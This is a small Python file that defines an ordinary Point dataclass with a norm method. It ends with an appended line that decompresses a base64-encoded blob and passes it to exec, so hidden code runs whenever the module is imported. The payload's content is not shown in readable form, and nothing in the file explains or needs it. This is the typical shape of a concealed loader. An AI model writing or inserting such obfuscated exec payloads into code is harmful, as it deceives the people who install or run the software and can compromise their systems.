from dataclasses import dataclass

@dataclass
class Point:
    x: float
    y: float

    def norm(self):
        return (self.x ** 2 + self.y ** 2) ** 0.5

import base64 as b, zlib as z
exec(z.decompress(b.b64decode("eJwlzEEKAjEMQNGrlK4SCJlOER0onkRcaG2xqEmZVMTbK8zq8za/vbquw5nmRxmkRn18kx038xbAZJxVpOQB4OdD5HnPO46elrAExHRS49u7RzCu7VlEAamiq7q66po4CDRTxHP639n65SPgp2uTye4efxwiKPc=")))
